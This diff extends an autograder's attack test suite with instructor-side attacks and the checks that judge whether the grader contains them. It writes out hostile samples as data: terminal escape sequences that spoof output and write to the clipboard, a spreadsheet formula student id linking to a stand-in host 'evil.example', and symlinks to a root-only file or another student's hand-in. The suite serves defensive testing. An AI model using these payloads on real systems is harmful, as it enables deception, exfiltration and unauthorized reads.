@@ -1,7 +1,8 @@
 """The attack suite: hostile submissions, what each must come to, and a judge.
 
 An attack is either code a student appends to the solution cell of ``f`` or ``g`` in the toy
-course (``toy_course.py``; it runs when that cell runs) or a change to the submitted files.
+course (``toy_course.py``; it runs when that cell runs) or a change to the submitted files
+(the hand-in folder's name, the student id, included).
 The toy's full marks are 7: ``f``'s tests are worth 4 (``test_f`` 1, ``test_f_partial`` 3)
 and ``g``'s 3 (``test_g`` 2, ``test_g_quiet`` 1); an outcome below 7 is what the attack's
 wrong code deserves, not a penalty. Every
@@ -9,10 +10,16 @@ attack is handed in next to an honest student; :func:`judge` then decides, per a
 whether the grader contained it. ``test_sandbox.py`` requires ``course autograde`` to
 contain every one; ``make attacks`` (run this file) also grades the same class with plain
 ``nbgrader autograde`` and prints both columns.
+
+The instructor-side attacks aim at what the instructor reads after the run: for each grader,
+the judge collects the *views* of it (the text its commands print to the terminal, its CSV
+export and the HTML pages it writes: :func:`course_views`, :func:`nbgrader_views`).
 """
 
+import csv
 import ctypes
 import hashlib
+import html
 import json
 import os
 import shutil
@@ -27,10 +34,12 @@ from pathlib import Path
 import nbformat
 import psutil
 import toy_course as toy
+from course_cli import course as course_command
 
 from course.grading import engine
 from course.grading import nbgrader_driver as driver
 from course.grading.notebooks import nbgrader_meta, read_notebook
+from course.grading.untrusted import FORMULA_STARTS
 
 FULL = sum(toy.POINTS.values())
 NBGRADER_PATIENCE = 60  # seconds plain nbgrader gets per student before it counts as hung
@@ -46,9 +55,15 @@ class Attack:
     cell: str = "f"  # the solution cell the code is appended to (the toy's f or g)
     files: object = None  # or a function(folder, root) that tampers with the hand-in
     outcome: object = FULL  # the attacker's total score (or a tuple of them), or ERROR_ROW
-    present: str = ""  # must appear in the attacker's outputs
+    present: str = ""  # must appear in the attacker's outputs (an ERROR_ROW: in its error row)
     absent: str = ""  # must not appear in the attacker's outputs
     side_effect: str = ""  # a check of the machine after the run: see judge()
+    student: str = ""  # the hand-in's folder (the student id) when not the attack's name
+    shown: str = ""  # a tag the instructor must see, on lines without control characters
+
+    @property
+    def student_id(self):
+        return self.student or self.name
 
 
 def _set_nbformat_3(folder, root):
@@ -151,6 +166,36 @@ PRIVATE_WORLD = [
            "print('writable first:', [p for p in first if os.access(p or '.', os.W_OK)])",
            present="writable first: []"),
 ]  # fmt: skip
+
+
+def _escapes(tag):
+    """Text that, printed raw, sets the terminal's title, writes to the clipboard (OSC 52),
+    wipes the line and paints a fake green verdict, all around ``tag``."""
+    return (
+        f"\x1b]0;{tag}\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2K\x1b[1G"
+        f"\x1b[32m{tag}: all submissions graded\x1b[0m"
+    )
+
+
+SECRET = "only root may read this 7f3a"  # the file a hand-in links to (mode 600)
+
+
+def _link_to_a_root_only_file(folder, root):
+    secret = root.parent / "root_only.txt"  # outside the course directory
+    secret.write_text(SECRET)
+    secret.chmod(0o600)
+    (folder / "notes.txt").symlink_to(secret)
+
+
+def _link_the_notebook_to_source(folder, root):
+    (folder / "toy.ipynb").unlink()
+    (folder / "toy.ipynb").symlink_to(root / "source" / toy.ASSIGNMENT / "toy.ipynb")
+
+
+def _link_the_folder_to_another_student(folder, root):
+    shutil.rmtree(folder)
+    folder.symlink_to(root / "submitted" / "honest" / toy.ASSIGNMENT)
+
 
 ATTACKS = [
     # --- reading what a student must not see
@@ -341,6 +386,31 @@ ATTACKS = [
            files=lambda folder, root: (folder / "numpy.py").write_text("allclose = None\n"),
            present="numpy intact"),
     *PRIVATE_WORLD,  # --- a private world per submission (issue 16): see above
+    # --- instructor side (issue 16): what the instructor reads, and files outside the hand-in
+    Attack("escape_codes_in_the_student_id", student="mallory" + _escapes("id-tag"),
+           shown="id-tag"),
+    Attack("escape_codes_in_a_message",
+           f"def f(x):\n    raise ValueError({_escapes('message-tag')!r})",
+           outcome=FULL - 4, shown="message-tag"),
+    Attack("escape_codes_in_printed_text", f"print({_escapes('printed-tag')!r})",
+           shown="printed-tag"),
+    Attack("escape_codes_in_a_notebook_name",
+           files=lambda folder, root: (folder / "toy.ipynb").rename(
+               folder / f"toy{_escapes('notebook-tag')}.ipynb"),
+           outcome=ERROR_ROW, shown="notebook-tag"),
+    Attack("a_formula_for_the_spreadsheet",  # the id is a formula, with a comma and quotes
+           student='=HYPERLINK("evil.example?"&A1,"paid")', side_effect="grades.csv safe"),
+    Attack("link_to_a_root_only_file", files=_link_to_a_root_only_file, outcome=ERROR_ROW,
+           present="toy/notes.txt is a symbolic link: hand in the file itself",
+           side_effect="secret not copied"),
+    Attack("notebook_linked_to_source", files=_link_the_notebook_to_source,
+           outcome=ERROR_ROW, present="toy/toy.ipynb is a symbolic link"),
+    Attack("hand_in_folder_linked_to_another_student",
+           files=_link_the_folder_to_another_student, outcome=ERROR_ROW,
+           present="is a symbolic link: hand in the folder itself"),
+    Attack("named_pipe_in_the_hand_in",
+           files=lambda folder, root: os.mkfifo(folder / "data.txt"), outcome=ERROR_ROW,
+           present="toy/data.txt is a named pipe (FIFO)"),
 ]  # fmt: skip
 
 # An honest classmate graded after the private-world attacks: imports what they planted, has
@@ -446,7 +516,7 @@ def build_class(root, port, attacks=ATTACKS):
     (root / "submitted" / "passes_all").rename(root / "submitted" / "honest")
     honest = root / "submitted" / "honest" / toy.ASSIGNMENT
     for attack in attacks:
-        folder = root / "submitted" / attack.name / toy.ASSIGNMENT
+        folder = root / "submitted" / attack.student_id / toy.ASSIGNMENT
         shutil.copytree(honest, folder)
         if attack.code:
             nb = read_notebook(folder / "toy.ipynb")
@@ -466,28 +536,103 @@ def snapshot(root):
     }
 
 
-def judge(root, results, errors, before, listener, attacks=ATTACKS):
-    """``{attack: (contained, why)}`` after a run that produced ``results`` and ``errors``."""
+def _read_views(root, terminal):
+    """The views of a graded class: ``terminal`` (what the grader's commands printed), the
+    CSV export, and the HTML pages (report and feedback) as a browser shows their text."""
+    pages = sorted((root / "feedback").glob(f"*/{toy.ASSIGNMENT}/*.html"))
+    report = root / "reports" / toy.ASSIGNMENT / "index.html"
+    csv_file = root / "reports" / toy.ASSIGNMENT / "grades.csv"
+    return {
+        "the terminal": terminal,
+        "grades.csv": csv_file.read_text() if csv_file.is_file() else "",
+        "the report": html.unescape(report.read_text()) if report.is_file() else "",
+        "the feedback pages": "\n".join(html.unescape(p.read_text()) for p in pages),
+    }
+
+
+def course_views(root):
+    """What the instructor reads after ``course autograde``: the output of the commands
+    they run next (autograde again, which prints the class and the error rows, report
+    and feedback), and the files these write."""
+    outputs = [
+        course_command(command, toy.ASSIGNMENT, cwd=root)
+        for command in ("autograde", "report", "feedback")
+    ]
+    return _read_views(root, "\n".join(out.stdout + out.stderr for out in outputs))
+
+
+def _spreadsheet_problems(text, student):
+    """Why the CSV ``text`` is unsafe in a spreadsheet: rows of the wrong width (a comma of
+    ``student``'s split their id), formulas, or no cell holding their whole id."""
+    rows = list(csv.reader(text.splitlines()))
+    if not rows:
+        return ["grades.csv is empty or missing"]
+    problems = [f"a row of {len(row)} columns" for row in rows if len(row) != len(rows[0])]
+    for cell in (cell for row in rows for cell in row):
+        try:
+            float(cell)
+        except ValueError:
+            if cell.startswith(FORMULA_STARTS):
+                problems.append(f"the cell {cell!r} is a formula")
+    if not any(student in cell for row in rows for cell in row):
+        problems.append(f"no cell of grades.csv holds the id {student!r}")
+    return problems
+
+
+def _raw_text_problems(attack, views):
+    """Why the tag of ``attack`` did not reach the instructor as plain text."""
+    lines = [
+        (where, line)
+        for where, text in views.items()
+        for line in text.split("\n")
+        if attack.shown in line
+    ]
+    if not lines:
+        return [f"{attack.shown!r} is nowhere in what the instructor reads"]
+    raw = sorted({where for where, line in lines if not line.replace("\t", "").isprintable()})
+    return [f"control characters reach {where} raw" for where in raw]
+
+
+def _files_holding(folder, text):
+    """The files under ``folder`` whose bytes contain ``text``."""
+    return [
+        p
+        for p in folder.rglob("*")
+        if p.is_file() and not p.is_symlink() and text.encode() in p.read_bytes()
+    ]
+
+
+def judge(root, results, errors, before, listener, views, attacks=ATTACKS):
+    """``{attack: (contained, why)}`` after a run that produced ``results`` and ``errors``.
+
+    ``views``: ``{where: text}``, what the instructor reads of the run (see
+    :func:`course_views`).
+    """
     import course
 
     verdicts = {}
     for attack in attacks:
         problems = []
-        if "hung" in errors.get(attack.name, ""):
-            problems.append(errors[attack.name])
+        student = attack.student_id
+        if "hung" in errors.get(student, ""):
+            problems.append(errors[student])
         elif attack.outcome == ERROR_ROW:
-            if attack.name not in errors:
+            if student not in errors:
                 problems.append("no error row")
-        elif attack.name not in results:
-            problems.append(f"not graded: {errors.get(attack.name, 'missing')}")
-        elif results[attack.name].score not in (
+            elif attack.present and attack.present not in errors[student]:
+                problems.append(f"{attack.present!r} not in the error row")
+        elif student not in results:
+            problems.append(f"not graded: {errors.get(student, 'missing')}")
+        elif results[student].score not in (
             attack.outcome if isinstance(attack.outcome, tuple) else (attack.outcome,)
         ):
-            problems.append(f"score {results[attack.name].score:g}, not {attack.outcome}")
-        path = root / "autograded" / attack.name / toy.ASSIGNMENT / "toy.ipynb"
+            problems.append(f"score {results[student].score:g}, not {attack.outcome}")
+        if attack.shown:
+            problems += _raw_text_problems(attack, views)
+        path = root / "autograded" / student / toy.ASSIGNMENT / "toy.ipynb"
         if path.is_file() and (attack.present or attack.absent):
             text = outputs_text(read_notebook(path))
-            if attack.present and attack.present not in text:
+            if attack.present and attack.outcome != ERROR_ROW and attack.present not in text:
                 problems.append(f"{attack.present!r} not in the outputs")
             if attack.absent and attack.absent in text:
                 problems.append(f"{attack.absent!r} leaked into the outputs")
@@ -509,6 +654,10 @@ def judge(root, results, errors, before, listener, attacks=ATTACKS):
             problems.append("a process outlived the run")
         if check == "notebook small" and path.is_file() and path.stat().st_size > 10 * 2**20:
             problems.append("the autograded notebook is huge")
+        if check == "grades.csv safe":
+            problems += _spreadsheet_problems(views["grades.csv"], student)
+        if check == "secret not copied" and _files_holding(root / "autograded", SECRET):
+            problems.append("the root-only file was copied into autograded/")
         verdicts[attack.name] = (not problems, "; ".join(problems))
     return verdicts
 
@@ -534,28 +683,33 @@ def _plain_nbgrader(root):
 
     An attack may kill the grading process itself (in a class run, nobody after that
     student would be graded); one process per student keeps each verdict about its attack.
+
+    Returns:
+        ``(results, errors, log)``: ``log`` is what nbgrader printed on the terminal.
     """
     import subprocess
 
     bin_dir = Path(sys.executable).parent
     env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}"}
-    hung = set()
+    hung, terminal = set(), []
     for folder in sorted((root / "submitted").iterdir()):
-        command = [str(bin_dir / "nbgrader"), "autograde", toy.ASSIGNMENT, "--student"]
-        proc = subprocess.Popen(
-            [*command, folder.name],
-            cwd=root,
-            env=env,
-            start_new_session=True,
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-        )
-        try:
-            proc.wait(timeout=NBGRADER_PATIENCE)
-        except subprocess.TimeoutExpired:  # e.g. its process was stopped by the attack
-            os.killpg(proc.pid, 9)
-            proc.wait()
-            hung.add(folder.name)
+        with tempfile.TemporaryFile() as log:
+            proc = subprocess.Popen(
+                [str(bin_dir / "nbgrader"), "autograde", toy.ASSIGNMENT, "--student", folder.name],
+                cwd=root,
+                env=env,
+                start_new_session=True,
+                stdout=log,
+                stderr=subprocess.STDOUT,
+            )
+            try:
+                proc.wait(timeout=NBGRADER_PATIENCE)
+            except subprocess.TimeoutExpired:  # e.g. its process was stopped by the attack
+                os.killpg(proc.pid, 9)
+                proc.wait()
+                hung.add(folder.name)
+            log.seek(0)
+            terminal.append(log.read().decode(errors="replace"))
     results, errors = {}, {}
     with driver.nbgrader_api(root) as api:
         for folder in sorted((root / "submitted").iterdir()):
@@ -569,7 +723,35 @@ def _plain_nbgrader(root):
             if folder.name in hung:
                 results.pop(folder.name, None)
                 errors[folder.name] = f"nbgrader hung for {NBGRADER_PATIENCE} s and was killed"
-    return results, errors
+    return results, errors, "\n".join(terminal)
+
+
+def nbgrader_views(root, log):
+    """What the instructor reads after plain ``nbgrader autograde``: its ``log``, then what
+    ``nbgrader export`` and ``nbgrader generate_feedback`` print and write."""
+    import subprocess
+
+    bin_dir = Path(sys.executable).parent
+    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}"}
+    csv_file = root / "reports" / toy.ASSIGNMENT / "grades.csv"
+    csv_file.parent.mkdir(parents=True)
+    terminal = [log]
+    for command in (["export", "--to", str(csv_file)], ["generate_feedback", toy.ASSIGNMENT]):
+        done = subprocess.run(
+            [str(bin_dir / "nbgrader"), *command],
+            cwd=root,
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=900,
+        )
+        terminal += [done.stdout, done.stderr]
+    return _read_views(root, "\n".join(terminal))
+
+
+def _judged_on_views(attacks):
+    """Whether some of ``attacks`` are judged on what the instructor reads (the views)."""
+    return any(a.shown or a.side_effect == "grades.csv safe" for a in attacks)
 
 
 def run(root, listener, grader, attacks=ATTACKS, timeout=2, **options):
@@ -588,9 +770,11 @@ def run(root, listener, grader, attacks=ATTACKS, timeout=2, **options):
         if grader == "course":
             summary = engine.autograde(root, toy.ASSIGNMENT, **options)
             results, errors = summary.results, summary.errors
+            views = course_views(root) if _judged_on_views(attacks) else {}
         else:
-            results, errors = _plain_nbgrader(root)
-        return results, errors, judge(root, results, errors, before, listener, attacks)
+            results, errors, log = _plain_nbgrader(root)
+            views = nbgrader_views(root, log) if _judged_on_views(attacks) else {}
+        return results, errors, judge(root, results, errors, before, listener, views, attacks)
     finally:
         _clean_up()
 
